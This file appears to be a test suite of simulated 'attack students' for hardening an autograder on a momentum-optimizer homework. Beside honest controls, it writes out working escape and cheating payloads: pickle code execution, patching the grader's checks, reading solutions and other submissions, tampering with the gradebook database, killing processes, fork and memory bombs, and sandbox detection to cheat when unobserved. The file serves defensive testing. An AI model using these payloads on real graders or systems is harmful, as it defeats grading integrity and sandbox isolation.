"""The attack students, one per kind, for ps2_momentum (11 autograded points).

Each student's code may name three absolute paths, filled in when the class is
built: ``@MARK@`` (a folder outside the course: an attack that got somewhere it
should not writes a file there), ``@COURSE@`` (the course being graded) and
``@REPO@`` (the repository: solutions/, lib/).  Attackers implement nothing
themselves (``return w``), so every point they get is undeserved; the honest
students implement everything and must get all 11.
"""

from dataclasses import dataclass, field

FUNCTIONS = ("sgd_momentum_step", "classic_momentum_step", "nesterov_step")

SGD = '''
if "momentum_buffer" not in state:
    state["momentum_buffer"] = dw.copy()
else:
    state["momentum_buffer"] = momentum * state["momentum_buffer"] + (1 - dampening) * dw
return w - lr * state["momentum_buffer"]
'''
CLASSIC = '''
v = state.get("velocity", np.zeros_like(w))
state["velocity"] = momentum * v - lr * dw
return w + state["velocity"]
'''
NESTEROV = '''
b = state.get("momentum_buffer")
b = dw.copy() if b is None else momentum * b + dw
state["momentum_buffer"] = b
return w - lr * (dw + momentum * b)
'''
RIGHT = {"sgd_momentum_step": SGD, "classic_momentum_step": CLASSIC, "nesterov_step": NESTEROV}


@dataclass
class Student:
    note: str
    body: str = "return w"                            # every function's body, unless answers
    answers: dict = field(default_factory=dict)       # function -> body
    added: list = field(default_factory=list)         # cells after the imports
    appended: list = field(default_factory=list)      # cells at the end of the notebook
    test_edits: dict = field(default_factory=dict)    # test cell -> new source
    score: float = 0.0                                # the autograded points deserved

    def code(self, function):
        return self.answers.get(function, self.body)


def mark(kind):
    """Code that leaves evidence that an attack reached outside its sandbox."""
    return f"open('@MARK@/{kind}', 'w').write('reached')"


# helpers the attacks share, as source
FIND_SOLUTION = '''
import glob, json, os, re
def _solution_code():
    places = ["@REPO@/solutions"] + [os.path.join(os.getcwd(), "../" * k, "solutions") for k in range(8)]
    for place in places:
        for path in glob.glob(os.path.join(place, "ps2_momentum", "*.ipynb")):
            try:
                nb = json.load(open(path))
            except OSError:
                continue
            ''' + mark("solutions-read") + '''
            return "\\n".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code"
                              and c["metadata"].get("nbgrader", {}).get("solution"))
    return None
_src = _solution_code()
if _src:
    exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
'''

KILLER = '''
import os, signal, time
def _victims():
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (os.getpid(), 1):
            try:
                cmd = open(f"/proc/{pid}/cmdline", "rb").read()
            except OSError:
                continue
            if b"descentlab" in cmd or b"ipykernel" in cmd or b"_child.py" in cmd:
                yield int(pid)
'''

STUDENTS = {
    # -- honest controls and the three students graded unfairly before ----------------------
    "ctl_solution": Student("honest control: right everywhere", answers=RIGHT, score=11),
    "ctl_kofi": Student("honest control: ignores dampening (loses 3 points)",
                        answers={**RIGHT, "sgd_momentum_step": SGD.replace("(1 - dampening) * dw",
                                                                           "dw")}, score=8),
    "honest_scratch_torch": Student(
        "imports torch (and descentlab) in a scratch cell to compare its answer",
        answers=RIGHT, score=11,
        appended=['import torch\nimport descentlab.optim\nw0 = torch.zeros(3, requires_grad=True)\n'
                  'opt = torch.optim.SGD([w0], lr=0.1, momentum=0.9)\nw0.grad = torch.ones(3)\n'
                  'opt.step()\nmine = sgd_momentum_step(np.zeros(3), np.ones(3), {}, lr=0.1)\n'
                  'print(np.allclose(mine, w0.detach().numpy()))']),
    "honest_redefine": Student(
        "redefines a function in a later cell, after its tests, to try a variant",
        answers=RIGHT, score=11,
        appended=['def sgd_momentum_step(w, dw, state, lr=1e-3, momentum=0.9, dampening=0.0):\n'
                  '    return w - lr * dw  # exploring: plain gradient descent']),
    "honest_slow_cells": Student(
        "seven slow exploration cells, each well within the cell limit, more than it in all",
        answers=RIGHT, score=11,
        appended=['import time\n_t = time.process_time()\nwhile time.process_time() - _t < 2.5:\n'
                  '    pass'] * 7),
    "honest_slow": Student("right, but slow (a sleep in every step), within the time limit",
                           answers={f: "import time\ntime.sleep(0.02)\n" + b for f, b in RIGHT.items()},
                           score=11),
    # -- code running inside the grader --------------------------------------------------------
    "pickle_reduce": Student(
        "returns an object whose pickle __reduce__ runs code where it is unpickled",
        added=['import os\nclass Boom:\n    def __reduce__(self):\n'
               '        return (exec, ("' + mark("pickle-reduce") + '",))'],
        body="state['momentum_buffer'] = Boom()\nstate['velocity'] = Boom()\nreturn Boom()"),
    "fd_pickle": Student(
        "writes a pickled 'full marks' reply straight to every file descriptor",
        added=['import os, pickle, struct\nclass Boom:\n    def __reduce__(self):\n'
               '        return (exec, ("' + mark("fd-pickle") + '",))\n'
               '_P = pickle.dumps(("ok", ("value", Boom(), (), {})))\n'
               'def _spray():\n    for fd in range(3, 256):\n        try:\n'
               '            os.write(fd, struct.pack("<Q", len(_P)) + _P)\n'
               '        except OSError:\n            pass'],
        body="_spray()\nreturn w"),
    # -- verification failing open ---------------------------------------------------------------
    "garbage_protocol": Student("writes garbage on the protocol descriptor",
                                added=['import os\ndef _junk():\n    for fd in range(3, 64):\n'
                                       '        try:\n            os.write(fd, b"\\xff" * 64)\n'
                                       '        except OSError:\n            pass'],
                                body="_junk()\nreturn w"),
    "deep_nesting": Student("returns a list nested 100000 deep",
                            body="x = []\nfor _ in range(100000):\n    x = [x]\nreturn x"),
    "dataclass_result": Student("returns a dataclass defined in the notebook",
                                added=['import dataclasses\n@dataclasses.dataclass\nclass Box:\n'
                                       '    w: object'],
                                body="state['momentum_buffer'] = Box(w)\nreturn Box(w)"),
    "masked_array": Student("returns fully masked arrays",
                            body="state['momentum_buffer'] = np.ma.masked_all(w.shape)\n"
                                 "state['velocity'] = np.ma.masked_all(w.shape)\n"
                                 "return np.ma.masked_all(w.shape)"),
    "eq_object": Student("returns objects equal to everything, with __array__/__float__ tricks",
                         added=['class Yes:\n    __array_priority__ = 1e9\n'
                                '    def __eq__(self, other):\n        return True\n'
                                '    def __ne__(self, other):\n        return False\n'
                                '    def __float__(self):\n        return 0.0\n'
                                '    def __array__(self, *a, **k):\n        return np.zeros(3)\n'
                                '    def __array_ufunc__(self, *a, **k):\n        return np.zeros(3, bool)\n'
                                '    shape = property(lambda self: (5,))\n'
                                '    dtype = np.dtype("float64")'],
                         body="state['momentum_buffer'] = Yes()\nstate['velocity'] = Yes()\n"
                              "return Yes()"),
    "ndarray_subclass": Student("returns an ndarray subclass whose comparisons always pass",
                                added=['class Same(np.ndarray):\n'
                                       '    def __ne__(self, o):\n        return np.zeros(self.shape, bool)\n'
                                       '    def __array_ufunc__(self, *a, **k):\n'
                                       '        return np.ones(self.shape, bool)'],
                                body="return np.zeros_like(w).view(Same)"),
    # -- the reference reaching the student's code ---------------------------------------------
    "unhook_guard": Student(
        "removes every import hook, then imports the reference",
        body="import sys\nsys.meta_path[:] = [f for f in sys.meta_path "
             "if 'Refuse' not in type(f).__name__]\nfor m in list(sys.modules):\n"
             "    if m.startswith(('descentlab', 'torch')):\n        del sys.modules[m]\n"
             "from descentlab.optim import SGD as _SGD\nw = w.copy()\n"
             "_SGD([w], lr=lr, momentum=momentum).step([dw])\nreturn w"),
    "reference_source": Student(
        "reads the reference's source from disk and execs it",
        added=['import glob, os, sys\n_src = {}\nfor _p in sys.path + ["@REPO@/lib"]:\n'
               '    for _f in glob.glob(os.path.join(_p, "descentlab", "optim", "*.py")):\n'
               '        _src[_f] = open(_f).read()\n'
               'if _src:\n    ' + mark("reference-source")],
        body="import sys, types\nns = {}\nfor f, s in _src.items():\n    try:\n"
             "        exec(s, ns)\n    except Exception:\n        pass\n"
             "return ns['sgd_momentum_step'](w, dw, state, lr, momentum) if 'x' in ns else w"),
    "solutions_exec": Student("walks up to the instructor's solutions/ and execs them",
                              added=[FIND_SOLUTION]),
    "import_obfuscated": Student(
        "imports the reference under an obfuscated name",
        body="m = __import__('descentlab.op' + 'tim', fromlist=['SGD'])\nw = w.copy()\n"
             "m.SGD([w], lr=lr, momentum=momentum).step([dw])\nreturn w"),
    "torch_in_function": Student(
        "calls torch.optim inside the graded function",
        body="import torch\nt = torch.tensor(w, requires_grad=True)\n"
             "opt = torch.optim.SGD([t], lr=lr, momentum=momentum)\nt.grad = torch.tensor(dw)\n"
             "opt.step()\nreturn t.detach().numpy()"),
    "sys_modules_surgery": Student(
        "replaces the checks and numpy's comparisons through sys.modules",
        added=['import sys, numpy\n'
               'g = sys.modules.get("descentlab.grading")\n'
               'if g is not None:\n    g.check = lambda *a, **k: print("passed")\n'
               'numpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda a, b, **k: '
               'numpy.ones(numpy.shape(a), bool)\n'
               'check = lambda *a, **k: print("passed")']),
    "gc_walk": Student(
        "walks the garbage collector to reach the grader's objects and defuse them",
        added=['import gc\nfor _o in gc.get_objects():\n    try:\n'
               '        if type(_o).__name__.endswith("Exercise"):\n'
               '            _o.check = lambda *a, **k: None\n'
               '        if type(_o).__name__ == "StudentProcess":\n            ' + mark("gc-walk") +
               '\n    except Exception:\n        pass']),
    "monkeypatch_check": Student("replaces check() in the notebook",
                                 added=['import descentlab.grading as _g\n'
                                        '_g.check = lambda *a, **k: print("passed")\n'
                                        'check = _g.check']),
    "edit_tests": Student("rewrites every test cell to pass",
                          test_edits={"*": "print('passed')"}),
    # -- the kernel with the grader's rights ----------------------------------------------------
    "gradebook_extra_credit": Student(
        "gives itself extra credit and full scores in the gradebook",
        added=['import sqlite3, glob\nfor _db in glob.glob("@COURSE@/gradebook.db"):\n'
               '    _c = sqlite3.connect(_db)\n'
               '    _c.execute("UPDATE grade SET extra_credit = 20, manual_score = 5")\n'
               '    _c.commit()\n    ' + mark("gradebook-write")]),
    "gradebook_trigger": Student(
        "plants a trigger that wrecks the other students' scores",
        added=['import sqlite3, glob\nfor _db in glob.glob("@COURSE@/gradebook.db"):\n'
               '    _c = sqlite3.connect(_db)\n'
               '    _c.execute("CREATE TRIGGER IF NOT EXISTS t AFTER UPDATE ON grade BEGIN '
               'UPDATE grade SET manual_score = -7; END")\n'
               '    _c.commit()\n    ' + mark("gradebook-trigger")]),
    "edit_other_submission": Student(
        "rewrites the control student's submission",
        added=['import glob\nfor _p in glob.glob("@COURSE@/submitted/ctl_solution/*/*.ipynb"):\n'
               '    open(_p, "a").write(" ")\n    ' + mark("edit-other")]),
    "read_other_submission": Student(
        "reads the control student's submission and execs its answers",
        added=['import glob, json\nfor _p in glob.glob("@COURSE@/submitted/ctl_solution/*/*.ipynb"):\n'
               '    _nb = json.load(open(_p))\n    ' + mark("read-other") + '\n'
               '    for _c in _nb["cells"]:\n'
               '        if _c["metadata"].get("nbgrader", {}).get("solution") and '
               '_c["cell_type"] == "code":\n'
               '            exec("".join(_c["source"]))']),
    "edit_grader_source": Student(
        "edits the grader's own source (the package and the repository's lib/)",
        added=['import descentlab.grading as _g, os\n'
               'for _p in [os.path.join(os.path.dirname(_g.__file__), "report.py"),\n'
               '           "@REPO@/lib/descentlab/grading/report.py"]:\n'
               '    try:\n        open(_p, "a").write("\\n# owned\\n")\n'
               '        ' + mark("grader-source") + '\n'
               '    except OSError:\n        pass']),
    "read_solutions": Student("reads solutions/ by its absolute path",
                              added=['import glob\nfor _p in glob.glob("@REPO@/solutions/*/*.ipynb"):\n'
                                     '    open(_p).read()\n    ' + mark("read-solutions")]),
    "kill_grader": Student("kills the grading process and every kernel it can see",
                           added=[KILLER + 'for _pid in _victims():\n    try:\n'
                                  '        os.kill(_pid, 9)\n    except OSError:\n        pass\n'
                                  'try:\n    os.kill(os.getppid(), 9)\nexcept OSError:\n    pass']),
    "daemon_killer": Student(
        "leaves a double-forked daemon that kills later students' kernels and children",
        added=[KILLER + 'if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n'
               '        _end = time.time() + 90\n        while time.time() < _end:\n'
               '            for _pid in _victims():\n                try:\n'
               '                    os.kill(_pid, 9)\n                except OSError:\n'
               '                    pass\n            time.sleep(0.2)\n'
               '    os._exit(0)']),
    "ctypes_proc": Student(
        "uses ctypes and /proc: raises its own limits, reads the parent's environment and "
        "memory map, and kills through libc",
        added=['import ctypes, os, resource\n'
               'try:\n    resource.setrlimit(resource.RLIMIT_CPU, (-1, -1))\nexcept Exception:\n'
               '    pass\n_libc = ctypes.CDLL(None)\n'
               'for _f in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/1/maps"):\n'
               '    try:\n        _e = open(_f, "rb").read()\n'
               '        if b"@COURSE@" in _e or b"NBGRADER" in _e:\n            ' + mark("proc-env") +
               '\n    except OSError:\n        pass\n'
               '_libc.kill(os.getppid(), 9) if os.getppid() > 1 else None'],
        body="import os\nos.system('touch @MARK@/ctypes-system')\nreturn w"),
    "symlink_out": Student(
        "symlinks out of its scratch folder and writes through the link",
        added=['import os\nfor _i, _t in enumerate(["/", "@COURSE@", "@MARK@"]):\n'
               '    try:\n        os.symlink(_t, f"link{_i}")\n'
               '        open(f"link{_i}/symlink-through", "w").write("x")\n'
               '    except OSError:\n        pass\n'
               'try:\n    open("link2/symlink-out", "w").write("x")\nexcept OSError:\n    pass']),
    "network": Student("tries the network",
                       added=['import socket\nfor _h in [("1.1.1.1", 53), ("127.0.0.1", 22)]:\n'
                              '    try:\n        socket.create_connection(_h, timeout=1)\n'
                              '        ' + mark("network") + '\n    except OSError:\n        pass']),
    "timing_detection": Student(
        "detects the grader by timing the calls, and calls the reference when not watched",
        added=['import time\n_calls = []'],
        body="_calls.append(time.perf_counter())\n"
             "if len(_calls) > 3 and _calls[-1] - _calls[-4] < 0.5:\n"
             "    import descentlab.optim as o\n    w = w.copy()\n"
             "    o.SGD([w], lr=lr, momentum=momentum).step([dw])\nreturn w"),
    "detect_sandbox": Student(
        "behaves differently when it sees it is sandboxed (uid, cwd, no kernel)",
        body="import os\nif os.getuid() == 65534 or 'get_ipython' not in dir(__builtins__):\n"
             "    import descentlab.optim as o\n    w = w.copy()\n"
             "    o.SGD([w], lr=lr, momentum=momentum).step([dw])\nreturn w"),
    # -- resources ------------------------------------------------------------------------------
    "exits": Student("os._exit in the function, sys.exit in a cell",
                     added=['import sys\ntry:\n    sys.exit(0)\nexcept SystemExit:\n    pass'],
                     body="import os\nos._exit(3)"),
    "stubborn_loop": Student("an infinite loop that swallows interrupts, in a scratch cell",
                             appended=['while True:\n    try:\n        pass\n'
                                       '    except BaseException:\n        pass']),
    "memory_bomb": Student("allocates without bound in the function",
                           body="x = []\nwhile True:\n    x.append(bytearray(1 << 26))"),
    "fork_bomb": Student("forks 300 sleeping children and threads",
                         added=['import os, threading, time\n_kids = []\nfor _ in range(300):\n'
                                '    try:\n        _pid = os.fork()\n    except OSError:\n'
                                '        break\n    if _pid == 0:\n        time.sleep(120)\n'
                                '        os._exit(0)\n    _kids.append(_pid)\n'
                                'for _ in range(50):\n    threading.Thread(target=time.sleep, '
                                'args=(120,), daemon=True).start()']),
    "huge_output": Student("prints 50 MB", added=['print("x" * (50 << 20))']),
    "disk_filler": Student("writes a 3 GB file into its scratch folder and /tmp",
                           added=['for _f in ("big", "/tmp/big"):\n    try:\n'
                                  '        with open(_f, "wb") as _h:\n'
                                  '            for _ in range(3 * 1024):\n'
                                  '                _h.write(b"x" * (1 << 20))\n'
                                  '    except OSError:\n        pass']),
    "numba_cache_poison": Student(
        "writes into any Numba cache it can find: its own (there is none: nothing is "
        "compiled in the sandbox) and the grader's",
        added=['import os, glob\n'
               'for _f in glob.glob(os.path.join(os.environ.get("NUMBA_CACHE_DIR", "."), "**", "*.nb*"),'
               ' recursive=True):\n'
               '    open(_f, "wb").write(b"poison")  # its own scratch: allowed, harmless\n'
               'for _d in ["@REPO@/.numba_cache", *glob.glob("/tmp/descentlab-jail-*")]:\n'
               '    for _f in [_p for _p in glob.glob(os.path.join(_d, "**", "*"), recursive=True)'
               ' if os.path.isfile(_p)][:5]:\n'
               '        try:\n            open(_f, "ab").write(b"poison")\n'
               '            ' + mark("numba-cache") + '\n        except OSError:\n'
               '            pass']),
    "hidden_tests_text": Student(
        "an honest student whose notes quote nbgrader's hidden-test marker",
        answers=RIGHT, score=11,
        appended=['# my notes: the ### BEGIN HIDDEN TESTS block is what nbgrader hides']),
}
